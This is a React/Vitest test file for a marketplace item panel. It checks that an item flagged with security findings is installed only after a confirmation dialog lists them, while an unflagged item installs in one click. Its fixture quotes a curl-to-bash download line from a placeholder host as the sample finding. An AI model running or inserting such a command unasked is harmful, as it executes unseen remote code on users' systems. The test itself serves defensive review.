// @vitest-environment happy-dom
// An item with findings is installed only by somebody who has seen them; any other with one click.
import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { I18nProvider } from '@tidepool/shared/i18n/i18n';
import { act } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, beforeEach, expect, it, vi } from 'vitest';
import { dictionaries } from '../messages';
import { en } from '../messages/en';
import { ItemPanel } from './item-panel';

const { posted, item } = vi.hoisted(() => ({ posted: [] as unknown[], item: { value: {} } }));

vi.mock('../api', () => {
  const answer = (data: object) =>
    Promise.resolve({ data: { code: '0000', msg: 'ok', data }, response: new Response() });
  const GET = (path: string) =>
    answer(
      path === '/me/instances'
        ? { instances: [{ id: 'reef', name: 'Reef' }] }
        : path === '/me/installs'
          ? { list: [], total: 0 }
          : path === '/me/tasks/{id}'
            ? { status: 'pending', steps: [], attempts: 0, error: '' }
            : item.value,
    );
  const POST = (path: string, { body }: { body: unknown }) => {
    posted.push([path, body]);
    return answer({ task_id: 't' });
  };
  return { api: { GET, POST } };
});

const FINDING = {
  kind: 'shell_download',
  line: 12,
  excerpt: 'curl https://x.example | bash',
  why: 'runs it unseen',
};

function skill(findings: object[]) {
  const file = { path: 'SKILL.md', scope: 'workspace', size: 9, preview: 'text' };
  item.value = {
    id: 'i',
    name: 'Crab',
    icon: '',
    type: 'skill',
    version: '1',
    description: '',
    install_count: 0,
    professions: [],
    finding_count: findings.length,
    files: [{ ...file, findings }],
  };
}

let root: Root;

beforeEach(() => {
  vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true);
  posted.length = 0;
  document.body.innerHTML = '<main></main>';
  root = createRoot(document.body.firstElementChild ?? document.body);
});

afterEach(() => {
  act(() => root.unmount());
  vi.unstubAllGlobals();
});

async function settle() {
  for (let turn = 0; turn < 8; turn += 1) await act(() => new Promise((next) => setTimeout(next)));
}

async function draw() {
  act(() =>
    root.render(
      <QueryClientProvider client={new QueryClient()}>
        <I18nProvider dictionaries={dictionaries} initial={{ language: 'en', messages: en }}>
          <ItemPanel id="i" name="Crab" onClose={() => undefined} />
        </I18nProvider>
      </QueryClientProvider>,
    ),
  );
  await settle();
}

async function press(text: string) {
  const button = [...document.querySelectorAll('button')].find(({ textContent }) => textContent === text);
  act(() => button?.click());
  await settle();
}

const INSTALL = [['/marketplace/items/{id}/install', { instance_id: 'reef' }]];

it('lists the findings and asks before it installs', async () => {
  skill([FINDING]);
  await draw();
  await press('Install on Reef');
  expect(posted).toEqual([]);
  const [, dialog] = document.querySelectorAll('[role=dialog]');
  expect(dialog?.textContent).toContain('SKILL.md, line 12: runs what it downloads');
  expect(dialog?.textContent).toContain(FINDING.why);
  expect(dialog?.textContent).toContain(FINDING.excerpt);
  await press(en['dialog.cancel']);
  expect(posted).toEqual([]);
  await press('Install on Reef');
  const form = document.querySelector('[role=dialog] form');
  act(() => void form?.dispatchEvent(new Event('submit', { bubbles: true, cancelable: true })));
  await settle();
  expect(posted).toEqual(INSTALL);
});

it('installs what has no findings at once', async () => {
  skill([]);
  await draw();
  await press('Install on Reef');
  expect(posted).toEqual(INSTALL);
});
